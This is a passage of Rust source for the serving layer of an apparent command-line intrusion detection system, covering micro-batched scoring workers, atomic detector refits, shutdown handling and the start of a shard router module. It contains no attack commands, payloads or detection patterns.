    /// Embeds `lines` once per pooled space the detector set reads and
    /// scores them with every resident detector. Returns one score
    /// vector per line, methods in registration order.
    ///
    /// The engine read lock is held across the whole micro-batch —
    /// embed, score, transpose — which is the epoch-swap atomicity
    /// anchor: a refit's write-locked [`FittedEngine::install_refits`]
    /// waits for every in-flight batch, so each batch's verdicts come
    /// entirely from one detector generation.
    fn score_lines(&self, lines: &[String]) -> Vec<Vec<f32>> {
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        let engine = self.engine.read().unwrap();
        let views = PooledViews::build(&self.pipeline, &engine, &refs);
        let run = engine.score_each(|det| views.for_detector(det));
        // Transpose method-major engine output into line-major replies.
        let n_methods = run.outputs().len();
        let mut out = vec![Vec::with_capacity(n_methods); lines.len()];
        for method in run.outputs() {
            debug_assert_eq!(method.scores.len(), lines.len());
            for (line, &s) in out.iter_mut().zip(&method.scores) {
                line.push(s);
            }
        }
        drop(engine);
        if let Some(lc) = &self.lifecycle {
            lc.observe_scores(observed_means(&out));
        }
        self.counters.record_batch(lines.len());
        out
    }

    /// Runs one refit: fit fresh templates of every refittable
    /// detector on baseline ∪ append-log, then swap them in under one
    /// brief engine write lock. Scoring workers keep serving the old
    /// epoch for the whole (expensive) embed + fit; only the swap
    /// itself excludes them. Returns the engine epoch after the swap.
    fn run_refit(&self) -> Result<u64, ServeError> {
        let lc = self.lifecycle.as_ref().ok_or_else(|| {
            ServeError::InvalidConfig(
                "refit requires a lifecycle (spawn with ScoringService::spawn_with_lifecycle)"
                    .into(),
            )
        })?;
        // One refit at a time; a second trigger waits and then refits
        // over the longer log, which is never wrong, just newer.
        let _serialized = lc.refit_lock.lock().unwrap();
        let (lines, labels, prefix) = lc.take_training();
        // Collect templates (cheap, unfitted) under a brief read lock.
        let templates: Vec<(usize, Box<dyn Detector>)> = {
            let engine = self.engine.read().unwrap();
            engine
                .detectors()
                .iter()
                .enumerate()
                .filter_map(|(i, det)| det.refit_template().map(|t| (i, t)))
                .collect()
        };
        if templates.is_empty() {
            // Nothing is refittable; still consume the trigger so a
            // background worker does not spin on a permanently-armed
            // trigger.
            lc.finish_refit(prefix);
            return Ok(self.engine.read().unwrap().epoch());
        }
        // Embed + fit entirely off-lock: per-line embeddings are
        // bit-identical regardless of batch composition and the
        // templates carry their seeds, so this reproduces exactly what
        // a stop-the-world refit over the same history would build.
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        let views = PooledViews::build_specs(
            &self.pipeline,
            templates
                .iter()
                .map(|(_, t)| (t.wants_embeddings(), t.pooling())),
            &refs,
        );
        let mut fitted = Vec::with_capacity(templates.len());
        for (i, mut template) in templates {
            if let Err(e) = template.fit(&views.for_detector(template.as_ref()), &labels) {
                lc.fail_refit();
                return Err(ServeError::Engine(format!(
                    "refit {:?}: {e}",
                    template.name()
                )));
            }
            fitted.push((i, template));
        }
        // The atomic swap: in-flight micro-batches (engine readers)
        // finish on the old epoch first, then every later batch scores
        // on the new one.
        let epoch = {
            let mut engine = self.engine.write().unwrap();
            engine.install_refits(fitted)
        };
        // State epoch strictly after the swap: a verdict-cache insert
        // that looked up pre-swap observes the bump and drops itself,
        // same discipline as appends.
        self.state_epoch.fetch_add(1, Ordering::AcqRel);
        lc.finish_refit(prefix);
        Ok(epoch)
    }
}

/// Per-line mean across methods — the one-dimensional verdict stream
/// the drift tracker watches. Shared by the service and the router so
/// both front-ends feed the tracker identically.
pub(crate) fn observed_means(verdicts: &[Vec<f32>]) -> impl Iterator<Item = f32> + '_ {
    verdicts.iter().map(|v| {
        if v.is_empty() {
            0.0
        } else {
            v.iter().sum::<f32>() / v.len() as f32
        }
    })
}

/// What one consumer of a micro-batch's views needs: whether it reads
/// the embedding matrix at all, and in which pooled space.
pub(crate) type ViewSpec = (bool, Pooling);

/// The embedding views one micro-batch needs: at most one encoder pass
/// per pooled space any consumer reads, plus a lines-only view for
/// methods that embed under their own encoder. Views nothing reads
/// are not built. Cheap to clone (every view is `Arc`-backed), which
/// is how the shard router hands one embedded batch to every shard
/// pool without re-encoding.
#[derive(Clone)]
pub(crate) struct PooledViews {
    n_lines: usize,
    mean: Option<EmbeddingView>,
    cls: Option<EmbeddingView>,
    lines_only: Option<EmbeddingView>,
}

impl PooledViews {
    /// Views for a scoring pass: every resident detector reads them.
    fn build(pipeline: &IdsPipeline, engine: &FittedEngine, lines: &[&str]) -> Self {
        Self::build_for(pipeline, engine, lines, |_| true)
    }

    /// Views for an append pass: only detectors that absorb appends
    /// will be handed a view, so only their pooled spaces are worth
    /// an encoder pass.
    fn build_for_append(pipeline: &IdsPipeline, engine: &FittedEngine, lines: &[&str]) -> Self {
        Self::build_for(pipeline, engine, lines, |det| det.absorbs_appends())
    }

    fn build_for(
        pipeline: &IdsPipeline,
        engine: &FittedEngine,
        lines: &[&str],
        reads_views: impl Fn(&dyn cmdline_ids::engine::Detector) -> bool,
    ) -> Self {
        Self::build_specs(
            pipeline,
            engine
                .detectors()
                .iter()
                .filter(|det| reads_views(det.as_ref()))
                .map(|det| (det.wants_embeddings(), det.pooling())),
            lines,
        )
    }

    /// Views for an explicit set of consumers — the shard router's
    /// path, where the consumers are split across resident detectors
    /// and per-shard pools rather than living in one engine.
    pub(crate) fn build_specs(
        pipeline: &IdsPipeline,
        specs: impl Iterator<Item = ViewSpec>,
        lines: &[&str],
    ) -> Self {
        let mut wants = [false; 2];
        let mut wants_lines_only = false;
        for (wants_embeddings, pooling) in specs {
            if wants_embeddings {
                wants[matches!(pooling, Pooling::Cls) as usize] = true;
            } else {
                wants_lines_only = true;
            }
        }
        let embed = |pooling: Pooling| {
            let matrix = embed_lines(
                pipeline.encoder(),
                pipeline.tokenizer(),
                lines,
                pipeline.max_len(),
                pooling,
            );
            EmbeddingView::new(lines.iter().map(|s| s.to_string()).collect(), matrix)
        };
        PooledViews {
            n_lines: lines.len(),
            mean: wants[0].then(|| embed(Pooling::Mean)),
            cls: wants[1].then(|| embed(Pooling::Cls)),
            lines_only: wants_lines_only
                .then(|| EmbeddingView::lines_only(lines.iter().map(|s| s.to_string()).collect())),
        }
    }

    /// Lines in the micro-batch these views embed.
    pub(crate) fn len(&self) -> usize {
        self.n_lines
    }

    /// The view a consumer with the given [`ViewSpec`] reads.
    pub(crate) fn view_for(&self, spec: ViewSpec) -> EmbeddingView {
        let (wants_embeddings, pooling) = spec;
        if !wants_embeddings {
            return self
                .lines_only
                .as_ref()
                .expect("lines-only view built")
                .clone();
        }
        match pooling {
            Pooling::Mean => self.mean.as_ref().expect("mean view built").clone(),
            Pooling::Cls => self.cls.as_ref().expect("cls view built").clone(),
        }
    }

    pub(crate) fn for_detector(&self, det: &dyn cmdline_ids::engine::Detector) -> EmbeddingView {
        self.view_for((det.wants_embeddings(), det.pooling()))
    }
}

/// The shutdown gate: submissions take the read lock for the
/// check-and-send, [`ScoringService::shutdown`] flips the flag under
/// the write lock — so no request can slip into the queue after the
/// workers were told to stop (it would hang unanswered).
pub(crate) type CloseGate = RwLock<bool>;

/// A cloneable submission handle onto a running scoring front-end —
/// [`ScoringService`] or [`crate::ShardRouter`]; both speak the same
/// request protocol, so producers are agnostic to whether verdicts
/// come from one resident engine or a merged shard fan-out. Hand one
/// to each producer thread. Outlives the service safely: calls after
/// shutdown return [`ServeError::Closed`].
#[derive(Clone)]
pub struct ServiceClient {
    tx: Sender<Request>,
    gate: Arc<CloseGate>,
    method_names: Arc<[String]>,
}

impl ServiceClient {
    /// Wires a client onto a front queue (shared with the router).
    pub(crate) fn new(
        tx: Sender<Request>,
        gate: Arc<CloseGate>,
        method_names: Arc<[String]>,
    ) -> Self {
        ServiceClient {
            tx,
            gate,
            method_names,
        }
    }

    /// The shutdown gate this client submits through (the owning
    /// front-end flips it at shutdown).
    pub(crate) fn close_gate(&self) -> &Arc<CloseGate> {
        &self.gate
    }

    /// Names (registration order) the per-line score vectors follow.
    pub fn method_names(&self) -> &[String] {
        &self.method_names
    }

    /// Scores one arriving line with every resident detector;
    /// blocks until the verdict is ready (the line may share its
    /// micro-batch with concurrent arrivals).
    pub fn score_line(&self, line: &str) -> Result<Vec<f32>, ServeError> {
        let mut scores = self.score_batch(std::slice::from_ref(&line.to_string()))?;
        Ok(scores.pop().expect("one reply per line"))
    }

    /// Scores a batch of arriving lines; one score vector per line, in
    /// input order.
    pub fn score_batch(&self, lines: &[String]) -> Result<Vec<Vec<f32>>, ServeError> {
        if lines.is_empty() {
            return Ok(Vec::new());
        }
        let (reply_tx, reply_rx) = mpsc::channel();
        self.submit(lines.to_vec(), Reply::Oneshot(reply_tx))?;
        reply_rx.recv().map_err(|_| ServeError::Closed)
    }

    /// Enqueues a scoring request with an explicit reply route — the
    /// shared submission primitive behind [`Self::score_batch`] (one-
    /// shot reply) and the net front-end's pipelined readers (tagged
    /// [`Reply::Net`] completions).
    pub(crate) fn submit(&self, lines: Vec<String>, reply: Reply) -> Result<(), ServeError> {
        // Hold the gate across the send: shutdown cannot mark the
        // service closed while a submission is mid-flight, so every
        // enqueued request is either answered by a worker or
        // explicitly dropped (→ `Closed`) by the shutdown drain.
        let closed = self.gate.read().unwrap();
        if *closed {
            return Err(ServeError::Closed);
        }
        self.tx
            .send(Request { lines, reply })
            .map_err(|_| ServeError::Closed)
    }
}

/// A running scoring service: a resident fitted detector set behind a
/// bounded request queue drained by micro-batching workers. See the
/// crate docs for the shape; construct with [`ScoringService::spawn`].
pub struct ScoringService {
    inner: Arc<Inner>,
    client: ServiceClient,
    /// Kept to drain (and thereby reject) requests that were already
    /// queued when shutdown fired.
    drain_rx: Receiver<Request>,
    /// Worker exit flag. Deliberately separate from the producer-side
    /// close gate: workers must NEVER touch that `RwLock`, because a
    /// producer can hold its read half while blocked in a full-queue
    /// `send` that only a *draining worker* can unblock — a worker
    /// queuing behind shutdown's waiting `write()` (std `RwLock`
    /// blocks new readers then) would deadlock all three parties.
    stop: Arc<AtomicBool>,
    workers: Vec<JoinHandle<()>>,
}

impl ScoringService {
    /// Spawns the scoring workers around a fitted detector set and the
    /// frozen pipeline that embeds arriving lines.
    ///
    /// # Errors
    ///
    /// [`ServeError::StreamStructured`] if any fitted detector cannot
    /// produce per-line verdicts (e.g. multiline).
    pub fn spawn(
        pipeline: IdsPipeline,
        engine: FittedEngine,
        config: ServeConfig,
    ) -> Result<ScoringService, ServeError> {
        Self::spawn_inner(pipeline, engine, config, None)
    }

    /// [`ScoringService::spawn`] with the online refit lifecycle
    /// attached: appends are logged, scored verdicts feed the drift
    /// tracker, and — in background mode — a refit worker re-fits the
    /// unsupervised detectors off the accumulated stream and swaps the
    /// new epoch in whenever a trigger fires. Manual mode
    /// ([`LifecycleConfig::manual`]) arms the triggers but leaves
    /// running [`ScoringService::refit`] to the caller.
    pub fn spawn_with_lifecycle(
        pipeline: IdsPipeline,
        engine: FittedEngine,
        config: ServeConfig,
        lifecycle: LifecycleConfig,
    ) -> Result<ScoringService, ServeError> {
        Self::spawn_inner(pipeline, engine, config, Some(lifecycle))
    }

    fn spawn_inner(
        pipeline: IdsPipeline,
        engine: FittedEngine,
        config: ServeConfig,
        lifecycle: Option<LifecycleConfig>,
    ) -> Result<ScoringService, ServeError> {
        config.validate()?;
        for det in engine.detectors() {
            if !det.test_aligned() {
                return Err(ServeError::StreamStructured(det.name().to_string()));
            }
        }
        let lifecycle = lifecycle.map(LifecycleState::new).transpose()?;
        let method_names: Arc<[String]> = engine
            .method_names()
            .into_iter()
            .map(String::from)
            .collect::<Vec<_>>()
            .into();
        let inner = Arc::new(Inner {
            pipeline,
            engine: RwLock::new(engine),
            method_names: method_names.to_vec(),
            counters: Counters::default(),
            state_epoch: Arc::new(AtomicU64::new(0)),
            lifecycle,
        });
        let (tx, rx) = bounded::<Request>(config.queue_capacity);
        let gate: Arc<CloseGate> = Arc::new(RwLock::new(false));
        let stop = Arc::new(AtomicBool::new(false));
        let mut workers: Vec<JoinHandle<()>> = (0..config.workers)
            .map(|_| {
                let inner = inner.clone();
                let rx = rx.clone();
                let stop = stop.clone();
                std::thread::spawn(move || worker_loop(&inner, &rx, &stop, &config))
            })
            .collect();
        if inner
            .lifecycle
            .as_ref()
            .is_some_and(LifecycleState::background)
        {
            let inner = inner.clone();
            let stop = stop.clone();
            workers.push(std::thread::spawn(move || refit_loop(&inner, &stop)));
        }
        Ok(ScoringService {
            inner,
            client: ServiceClient::new(tx, gate, method_names),
            drain_rx: rx,
            stop,
            workers,
        })
    }

    /// A cloneable submission handle for producer threads.
    pub fn client(&self) -> ServiceClient {
        self.client.clone()
    }

    /// Names (registration order) the per-line score vectors follow.
    pub fn method_names(&self) -> &[String] {
        &self.inner.method_names
    }

    /// Scores one arriving line (see [`ServiceClient::score_line`]).
    pub fn score_line(&self, line: &str) -> Result<Vec<f32>, ServeError> {
        self.client.score_line(line)
    }

    /// Scores a batch of lines (see [`ServiceClient::score_batch`]).
    pub fn score_batch(&self, lines: &[String]) -> Result<Vec<Vec<f32>>, ServeError> {
        self.client.score_batch(lines)
    }

    /// Absorbs freshly-labeled supervision into the resident detector
    /// set: lines are embedded once per pooled space and every
    /// detector gets [`Detector::append`](cmdline_ids::engine::Detector::append)
    /// (neighbour-based methods insert into their live index — the
    /// incremental HNSW path — others keep their fitted state).
    /// Returns how many detectors absorbed the batch.
    ///
    /// Runs on the caller's thread; scoring workers keep serving the
    /// old state until the brief write-lock at the end.
    pub fn append(&self, lines: &[String], labels: &[bool]) -> Result<usize, ServeError> {
        if lines.len() != labels.len() {
            return Err(ServeError::Engine(format!(
                "one label per line required: {} lines, {} labels",
                lines.len(),
                labels.len()
            )));
        }
        if lines.is_empty() {
            return Ok(0);
        }
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        // Embed under the read lock (workers keep scoring) and only
        // for the pooled spaces the absorbing detectors read; the
        // write lock below is then just the index inserts.
        let views = {
            let engine = self.inner.engine.read().unwrap();
            PooledViews::build_for_append(&self.inner.pipeline, &engine, &refs)
        };
        let absorbed = {
            let mut engine = self.inner.engine.write().unwrap();
            engine.append_each(labels, |det| views.for_detector(det))?
        };
        // State changed: bump the shared epoch (cache invalidation,
        // snapshot race detection) strictly after the write lock
        // released, and log the batch for the next refit's training
        // set.
        self.inner.state_epoch.fetch_add(1, Ordering::AcqRel);
        if let Some(lc) = &self.inner.lifecycle {
            lc.record_appends(lines, labels);
        }
        Ok(absorbed)
    }

    /// Runs one refit now, on the caller's thread: fits fresh
    /// templates of every refittable detector on baseline ∪ append-log
    /// and swaps them in atomically (see [`FittedEngine::install_refits`]).
    /// In-flight micro-batches finish on the old epoch; no line is
    /// dropped or double-scored across the swap. Returns the engine
    /// epoch after the swap. Requires a lifecycle
    /// ([`ScoringService::spawn_with_lifecycle`]).
    pub fn refit(&self) -> Result<u64, ServeError> {
        self.inner.run_refit()
    }

    /// The resident engine's detector generation (see
    /// [`FittedEngine::epoch`]): 0 at spawn, +1 per refit swap.
    pub fn engine_epoch(&self) -> u64 {
        self.inner.engine.read().unwrap().epoch()
    }

    /// The detector-state epoch: bumped on every absorbed append *and*
    /// every refit swap — the counter an attached verdict cache
    /// invalidates by.
    pub fn state_epoch(&self) -> u64 {
        self.inner.state_epoch.load(Ordering::Acquire)
    }

    /// The shared state-epoch counter, for wiring a
    /// [`crate::VerdictCache`] onto the same invalidation source.
    pub(crate) fn state_epoch_handle(&self) -> Arc<AtomicU64> {
        self.inner.state_epoch.clone()
    }

    /// Lifecycle counters and trigger state; `None` when spawned
    /// without a lifecycle.
    pub fn lifecycle_stats(&self) -> Option<LifecycleStats> {
        self.inner.lifecycle.as_ref().map(LifecycleState::stats)
    }

    /// Captures the persistable detector state at a single consistent
    /// epoch. The capture runs under the engine read lock — a refit's
    /// write-locked swap cannot interleave — and the state epoch is
    /// checked around the lock acquisition: if an append or refit
    /// landed between reading `before` and finishing the capture, the
    /// capture is discarded with a typed
    /// [`ServeError::SnapshotRace`] instead of persisting frames whose
    /// epoch is ambiguous. Returns the snapshot plus the names of
    /// detectors that were not capturable.
    pub fn snapshot(&self) -> Result<(ServiceSnapshot, Vec<String>), ServeError> {
        let before = self.state_epoch();
        let captured = {
            let engine = self.inner.engine.read().unwrap();
            ServiceSnapshot::capture(&engine)
        };
        let after = self.state_epoch();
        if before != after {
            return Err(ServeError::SnapshotRace { before, after });
        }
        Ok(captured)
    }

    /// Runs `f` over the resident fitted engine (snapshot capture,
    /// introspection) under the engine read lock: concurrent
    /// [`ScoringService::append`]s are excluded for a consistent
    /// detector view, but scoring workers (also readers) keep serving
    /// — this does **not** quiesce the service.
    pub fn with_engine<R>(&self, f: impl FnOnce(&FittedEngine) -> R) -> R {
        f(&self.inner.engine.read().unwrap())
    }

    /// Monotonic batch/line counters.
    pub fn stats(&self) -> ServiceStats {
        self.inner.counters.stats()
    }

    /// Stops accepting requests and joins the workers; requests still
    /// queued (and any caller blocked on them) observe
    /// [`ServeError::Closed`]. Dropping the service does the same.
    /// Outstanding [`ServiceClient`] clones stay safe to call — they
    /// just get `Closed` back.
    pub fn shutdown(mut self) {
        self.shutdown_in_place();
    }

    fn shutdown_in_place(&mut self) {
        {
            // The write lock waits out in-flight submissions, then the
            // flag turns every later one away at the gate. Workers are
            // still running here — a submission blocked on a full
            // queue needs them draining before it releases its read
            // half of the gate.
            let mut closed = self.client.gate.write().unwrap();
            if *closed {
                return;
            }
            *closed = true;
        }
        // No new request can enter now; tell the workers to exit once
        // the queue runs dry and they hit their idle poll.
        self.stop.store(true, Ordering::Release);
        for handle in self.workers.drain(..) {
            let _ = handle.join();
        }
        // Reject what the workers left behind: dropping a request
        // drops its reply sender, which surfaces as `Closed` at the
        // blocked caller.
        while self.drain_rx.try_recv().is_ok() {}
    }
}

impl Drop for ScoringService {
    fn drop(&mut self) {
        self.shutdown_in_place();
    }
}

/// How long an idle worker sleeps between shutdown-flag checks.
pub(crate) const IDLE_POLL: Duration = Duration::from_millis(25);

/// Moves already-queued requests into `requests` while their lines
/// fit within `budget` (one channel lock total); returns the line
/// count taken. Requests are atomic — one whose lines exceed the
/// remaining budget stays queued for the next batch, so a drain never
/// blows past `max_batch` (a micro-batch can still overshoot by at
/// most one request: its first, or a straggler accepted blind from
/// `recv_timeout`, must be taken whatever their size).
fn drain_queued(rx: &Receiver<Request>, requests: &mut Vec<Request>, budget: usize) -> usize {
    if budget == 0 {
        return 0;
    }
    let mut taken = 0usize;
    rx.try_recv_while(requests, |req| {
        if taken + req.lines.len() > budget {
            return false;
        }
        taken += req.lines.len();
        true
    });
    taken
}

/// Blocks for a request and coalesces more arrivals within the batch
/// window (up to `max_batch` lines) into one micro-batch. Returns
/// `None` when the worker should exit (stop flag observed while idle,
/// or the queue disconnected). Shared by the single-service workers
/// and the shard router's front batchers — micro-batch formation is
/// identical on both paths.
pub(crate) fn collect_batch(
    rx: &Receiver<Request>,
    stop: &AtomicBool,
    max_batch: usize,
    batch_window: Duration,
) -> Option<Vec<Request>> {
    let first = loop {
        match rx.recv_timeout(IDLE_POLL) {
            Ok(req) => break req,
            Err(RecvTimeoutError::Timeout) => {
                // Lock-free by design — see `ScoringService::stop`.
                if stop.load(Ordering::Acquire) {
                    return None;
                }
            }
            Err(RecvTimeoutError::Disconnected) => return None,
        }
    };
    let mut requests = vec![first];
    let mut n_lines = requests[0].lines.len();
    if !batch_window.is_zero() {
        // Fast path: whatever is already queued joins the batch in
        // one lock round-trip (the common case once the service is
        // saturated — while this worker scored the previous batch,
        // producers refilled the queue).
        n_lines += drain_queued(rx, &mut requests, max_batch - n_lines.min(max_batch));
        // Slow path: the queue ran dry with batch budget left —
        // wait out the window for stragglers.
        let deadline = Instant::now() + batch_window;
        while n_lines < max_batch {
            let now = Instant::now();
            let wait = deadline.saturating_duration_since(now);
            if wait.is_zero() {
                break;
            }
            match rx.recv_timeout(wait) {
                Ok(req) => {
                    n_lines += req.lines.len();
                    requests.push(req);
                    n_lines += drain_queued(rx, &mut requests, max_batch - n_lines.min(max_batch));
                }
                Err(RecvTimeoutError::Timeout) | Err(RecvTimeoutError::Disconnected) => break,
            }
        }
    }
    Some(requests)
}

/// One worker: blocks for a request, coalesces more arrivals within
/// the batch window (up to `max_batch` lines), scores the micro-batch
/// with one encoder pass per pooled space, and replies per request.
fn worker_loop(inner: &Inner, rx: &Receiver<Request>, stop: &AtomicBool, config: &ServeConfig) {
    while let Some(requests) = collect_batch(rx, stop, config.max_batch, config.batch_window) {
        let all_lines: Vec<String> = requests
            .iter()
            .flat_map(|r| r.lines.iter().cloned())
            .collect();
        // Contain scoring panics (a detector assert, a poisoned engine
        // lock): the worker must survive, and dropping the batch drops
        // its reply senders, surfacing `Closed` at the blocked callers
        // instead of wedging the whole service — with `workers: 1` an
        // uncaught unwind here would leave every future request
        // hanging in its reply recv with no error at all.
        let scored = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            inner.score_lines(&all_lines)
        }));
        match scored {
            Ok(scored) => {
                let mut scored = scored.into_iter();
                for req in requests {
                    let reply: Vec<Vec<f32>> = scored.by_ref().take(req.lines.len()).collect();
                    req.reply.send(reply);
                }
            }
            Err(_) => drop(requests),
        }
    }
}

/// The background refit worker: polls the lifecycle triggers and runs
/// [`Inner::run_refit`] whenever one is armed. A failed refit disarms
/// its trigger (the engine keeps serving the old epoch and the append
/// log stays unconsumed), so a persistently-broken fit logs once per
/// trigger instead of hot-looping.
fn refit_loop(inner: &Inner, stop: &AtomicBool) {
    let Some(lc) = inner.lifecycle.as_ref() else {
        return;
    };
    while !stop.load(Ordering::Acquire) {
        if lc.refit_pending() {
            if let Err(e) = inner.run_refit() {
                eprintln!("serve: background refit failed: {e}");
            }
        }
        std::thread::sleep(IDLE_POLL);
    }
}
