//! The shard router: the scoring front-end for partitioned exemplar
//! sets.
//!
//! A single [`ScoringService`](crate::ScoringService) keeps *one*
//! resident `FittedEngine`: one index graph per neighbour method, one
//! engine write lock every `append` serializes through. The router
//! splits that along the shard axis:
//!
//! * **Spawn** takes an engine whose neighbour detectors were fitted
//!   over a sharded index (`IndexConfig::with_shards(n)`), splits each
//!   one into its N per-shard sub-detectors
//!   ([`DetectorState::split_shards`] — saved HNSW graphs are adopted,
//!   never rebuilt), and parks every other detector (PCA,
//!   classification, …) in a router-resident engine.
//! * **Scoring**: front batcher threads coalesce arrivals into
//!   micro-batches exactly as the single service does (same queue,
//!   same window logic, same [`ServiceClient`] protocol), embed each
//!   batch **once** per pooled space, then *scatter* the embedded
//!   views to every shard's worker pool. Each pool answers with its
//!   shard's top-k candidates per line per neighbour method; the
//!   batcher *gathers* the N answers, k-way-merges each line's
//!   candidates under the exact scan's total order, and folds them
//!   with the method's own scoring rule ([`ShardMerge`]). Resident
//!   detectors score on the batcher thread while the shards work.
//!   Over exact shards the merged verdicts are **bit-identical** to an
//!   unsharded service (`tests/shard_router_parity.rs`).
//! * **Append** routes each freshly-labeled exemplar to its owning
//!   shard (same seeded content hash the index layer partitions by)
//!   and write-locks only that shard — scoring against every other
//!   shard proceeds untouched, which is the write-throughput point of
//!   sharding.
//! * **Snapshot** reassembles each partitioned method into one
//!   manifest + N shard frames ([`ShardedDetectorState::merge`]) and
//!   frames them as an ordinary [`ServiceSnapshot`]; a cold start
//!   restores every shard graph with zero construction passes and
//!   [`ShardRouter::spawn`] re-splits without rebuilding
//!   (`tests/snapshot_cold_start.rs`).

use crate::lifecycle::{LifecycleConfig, LifecycleState, LifecycleStats};
use crate::service::{
    collect_batch, observed_means, CloseGate, Counters, PooledViews, Request, ServeConfig,
    ServeError, ServiceClient, ViewSpec, IDLE_POLL,
};
use crate::snapshot::ServiceSnapshot;
use cmdline_ids::engine::{
    merge_shard_candidates, Detector, DetectorState, FittedEngine, IndexConfig, Quantization,
    ShardCandidate, ShardMerge, ShardedDetectorState, ShardedParams,
};
use cmdline_ids::pipeline::IdsPipeline;
use crossbeam::channel::{bounded, Receiver, RecvTimeoutError, Sender};
use index::{shard_for_row, IndexSnapshot};
use linalg::Matrix;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{mpsc, Arc, Mutex, RwLock};
use std::thread::JoinHandle;

use anomaly::{RetrievalDetector, RetrievalMethod, VanillaKnn, VanillaKnnMethod};

/// Knobs for a [`ShardRouter`].
#[derive(Debug, Clone, Copy)]
pub struct RouterConfig {
    /// Number of exemplar shards — must match the shard count the
    /// neighbour detectors were fitted with
    /// (`IndexConfig::with_shards`).
    pub shards: usize,
    /// Front-end queue and micro-batching knobs; `serve.workers` is
    /// the number of batcher threads forming and merging micro-batches.
    pub serve: ServeConfig,
    /// Worker threads per shard pool draining that shard's scatter
    /// queue.
    pub shard_workers: usize,
}

impl Default for RouterConfig {
    fn default() -> Self {
        RouterConfig {
            shards: 2,
            serve: ServeConfig::default(),
            shard_workers: 1,
        }
    }
}

impl RouterConfig {
    /// A router over `shards` partitions with default serve knobs.
    pub fn with_shards(shards: usize) -> Self {
        RouterConfig {
            shards,
            ..RouterConfig::default()
        }
    }

    /// Rejects shapes that cannot serve (see [`ServeConfig::validate`];
    /// additionally zero shards or zero shard workers).
    pub fn validate(&self) -> Result<(), ServeError> {
        self.serve.validate()?;
        if self.shards == 0 {
            return Err(ServeError::InvalidConfig(
                "shards must be >= 1 (no partition would own any exemplar)".into(),
            ));
        }
        if self.shard_workers == 0 {
            return Err(ServeError::InvalidConfig(
                "shard_workers must be >= 1 (nothing would drain the shard queues)".into(),
            ));
        }
        Ok(())
    }
}

/// One entry of the verdict-assembly plan, in registration order.
enum Slot {
    /// Index into the router-resident engine's detectors.
    Resident(usize),
    /// Index into the sharded-method metas.
    Sharded(usize),
}

/// Everything the router knows about one partitioned method beyond its
/// per-shard detectors.
struct ShardedMethodMeta {
    /// Registration name (also the restored method's name).
    name: &'static str,
    /// The pooled space the method's views come from.
    spec: ViewSpec,
    /// How per-shard candidates fold into a score.
    merge: ShardMerge,
    /// Neighbour count.
    k: usize,
    /// Partition shape (seed + shard count + backend).
    params: ShardedParams,
    /// Candidate storage format of the partition (appends that build a
    /// brand-new shard sub-index must quantize like the siblings).
    quant: Quantization,
    /// Embedding dimensionality.
    dim: usize,
    /// Whether only malicious-labeled rows enter the index (retrieval)
    /// — the rows that need shard routing on append.
    malicious_only: bool,
    /// Next global exemplar id — appends assign ids exactly as the
    /// unsharded detector would (dense, batch order).
    next_global: Mutex<usize>,
}

/// One partitioned method's share of one shard: the sub-detector plus
/// its local→global id map.
struct ShardSlot {
    det: Box<dyn Detector>,
    globals: Vec<usize>,
}

/// A shard's mutable state: one optional [`ShardSlot`] per partitioned
/// method (in meta order); `None` while the shard holds no rows for
/// that method.
struct ShardState {
    methods: Vec<Option<ShardSlot>>,
}

/// Per-line candidate lists, per partitioned method, from one shard —
/// ids already mapped to the method's global exemplar space.
type ShardAnswer = Vec<Vec<Vec<ShardCandidate>>>;

/// One scatter job: the embedded micro-batch, which shard it is for
/// (tags the gather reply), and the gather channel.
struct ShardJob {
    views: PooledViews,
    shard: usize,
    reply: mpsc::Sender<(usize, ShardAnswer)>,
}

/// A shard's worker pool handle.
struct ShardPool {
    tx: Sender<ShardJob>,
    state: Arc<RwLock<ShardState>>,
}

struct RouterInner {
    pipeline: IdsPipeline,
    /// Detectors that are not exemplar-partitioned (unsupervised
    /// methods, classification probes) — scored on the batcher thread
    /// while the shards work. Refits swap epochs in here, exactly as
    /// the single service does.
    resident: RwLock<FittedEngine>,
    metas: Vec<ShardedMethodMeta>,
    plan: Vec<Slot>,
    /// The live shard pools, swapped wholesale by
    /// [`ShardRouter::reshard`]. Scoring snapshots the `Arc` once per
    /// micro-batch, so a batch scattered to the old partition gathers
    /// from the old partition even while the swap lands.
    pools: RwLock<Arc<Vec<ShardPool>>>,
    /// The *current* shard count — `metas[..].params.shards` keeps the
    /// fit-time value (the partitioner seed and backend never change).
    shards: AtomicUsize,
    method_names: Vec<String>,
    counters: Counters,
    /// Serializes appends (and snapshot reassembly, and resharding) so
    /// per-method global ids stay dense and per-shard maps stay
    /// ascending; scoring readers are never blocked by this lock.
    append_lock: Mutex<()>,
    /// Bumped after every absorbed append, refit swap, and reshard —
    /// the shared cache-invalidation / snapshot-race counter.
    state_epoch: Arc<AtomicU64>,
    lifecycle: Option<LifecycleState>,
    /// Knobs + shared stop flag for building replacement pools
    /// mid-flight (reshard).
    shard_workers: usize,
    pool_queue_bound: usize,
    pool_specs: Arc<Vec<ViewSpec>>,
    stop_pools: Arc<AtomicBool>,
    /// Workers spawned for resharded pools; joined at shutdown.
    extra_workers: Mutex<Vec<JoinHandle<()>>>,
}

impl RouterInner {
    /// The current pool set, pinned for one operation.
    fn pools(&self) -> Arc<Vec<ShardPool>> {
        self.pools.read().unwrap().clone()
    }

    /// A method's partition shape at the *current* shard count.
    fn current_params(&self, meta: &ShardedMethodMeta) -> ShardedParams {
        ShardedParams {
            shards: self.shards.load(Ordering::Acquire),
            ..meta.params
        }
    }

    /// Runs one refit over the resident engine: fit fresh templates of
    /// every refittable detector on baseline ∪ append-log, then swap
    /// them in under one brief write lock (the shard pools never hold
    /// refittable detectors — neighbour methods absorb appends
    /// directly). Mirrors the single service's refit path.
    fn run_refit(&self) -> Result<u64, ServeError> {
        let lc = self.lifecycle.as_ref().ok_or_else(|| {
            ServeError::InvalidConfig(
                "refit requires a lifecycle (spawn with ShardRouter::spawn_with_lifecycle)".into(),
            )
        })?;
        let _serialized = lc.refit_lock.lock().unwrap();
        let (lines, labels, prefix) = lc.take_training();
        let templates: Vec<(usize, Box<dyn Detector>)> = {
            let engine = self.resident.read().unwrap();
            engine
                .detectors()
                .iter()
                .enumerate()
                .filter_map(|(i, det)| det.refit_template().map(|t| (i, t)))
                .collect()
        };
        if templates.is_empty() {
            lc.finish_refit(prefix);
